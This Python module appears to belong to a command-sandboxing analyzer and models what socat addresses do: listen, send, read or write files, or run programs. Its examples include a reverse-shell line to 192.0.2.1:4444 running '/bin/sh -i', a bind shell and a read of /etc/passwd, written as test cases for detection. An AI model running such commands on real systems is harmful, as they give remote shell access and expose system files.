"""Joins two addresses: sockets, files, programs."""

from __future__ import annotations

from sandguard.commands.actions import FROM_NETWORK, content, printed, runs_shell_text, split_words, word
from sandguard.commands.addresses import beginning
from sandguard.commands.effects import Listens, Reads, Runs, Sends, Writes
from sandguard.commands.spec import CommandSpec, Option, Stored, action
from sandguard.values import Argument, Known, Unknown

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandguard.commands.effects import Path
    from sandguard.commands.spec import Call, Deed
    from sandguard.values import Value

_STREAMS = frozenset(("-", "STDIO", "STDIN", "STDOUT", "STDERR", "FD"))
_PROGRAMS = frozenset(("EXEC", "SYSTEM", "SHELL"))
_FILES = frozenset(("OPEN", "FILE", "CREATE", "CREAT", "GOPEN", "PIPE"))


def _kind(address: Argument) -> str:
    return beginning(address.value).partition(":")[0].partition(",")[0].upper()


def effects(call: Call) -> Iterator[Deed]:
    """Yield what each of the two addresses opens."""
    read = [_file(call, address) for address in call.operands[:2] if _kind(address) in _FILES]
    sent: Value = content(read) if read else Unknown("what the other address gives")
    for index, address in enumerate(call.operands[:2]):
        for part in beginning(address.value).split("!!"):
            yield from _address(call, address, part, sent, is_second=index == 1)


def _address(call: Call, address: Argument, text: str, sent: Value, *, is_second: bool) -> Iterator[Deed]:
    name, _, rest = text.partition(":")
    kind = name.partition(",")[0].upper()
    origins = address.value.origins
    value: Value = Known(rest.partition(",")[0], origins)
    if address.text is None:
        value = Unknown("an address that is not known", origins, "", rest)
    inner = Argument(value, address.span)
    if kind in _STREAMS:
        return
    if kind in _PROGRAMS:
        if kind == "EXEC":
            words = (inner,) if address.text is None else split_words(inner)
            yield Runs(address.span, words, is_wrapper=False)
        else:
            yield from runs_shell_text.act(call, inner)
    elif "LISTEN" in kind or kind.endswith(("-L", "RECV", "RECVFROM")):
        yield Listens(address.span, value)
    elif kind in _FILES or "/" in name:
        path = call.path(inner if "/" not in name else word(text.partition(",")[0], address.span, origins))
        if is_second or kind.startswith("CREA"):
            yield Writes(address.span, path)
            yield Stored(path, FROM_NETWORK)
        else:
            yield Reads(address.span, path)
    elif kind:
        yield Sends(address.span, value, sent)


def _file(call: Call, address: Argument) -> Path:
    text = beginning(address.value).partition(":")[2].partition(",")[0].partition("!!")[0]
    return call.path(word(text, address.span, address.value.origins))


def output(call: Call) -> Value:
    """Return what comes from the network, or from a file or program, where the other address is a stream."""
    others = [address for address in call.operands[:2] if _kind(address) not in _STREAMS]
    if len(others) == 2:
        return Known("")
    if others and _kind(others[0]) in _FILES:
        return content((_file(call, others[0]),))
    return printed(call) if others and _kind(others[0]) in _PROGRAMS else FROM_NETWORK


@action(Writes)
def logs(call: Call, argument: Argument) -> Iterator[Deed]:
    """The log is written."""
    yield Writes(argument.span, call.path(argument))


SPEC = CommandSpec(
    "socat",
    options=(Option("-lf", "-r", "-R", value="FILE", does=logs),),
    flags="-V -h -hh -hhh -d -dd -ddd -dddd -D -ly -lm -ls -lu -lh -v -x -u -U -g -4 -6 -s --experimental",
    values="-b -t -T -L -W -lp -S -O",
    has_clusters=False,
    effects=effects,
    input="data",
    output=output,
    examples={
        "socat TCP:192.0.2.1:4444 EXEC:'/bin/sh -i',pty": ("sends ? to 192.0.2.1:4444", "runs /bin/sh -i"),
        "socat TCP-LISTEN:4444,fork SYSTEM:sh": ("listens on 4444", "runs sh argument 'sh'"),
        "socat -u FILE:/etc/passwd -": ("reads /etc/passwd", "stdout from file:/etc/passwd"),
        "socat - TCP:example.com:80": ("sends ? to example.com:80", "stdout from network"),
    },
    reference="socat(1), socat 1.8",
)
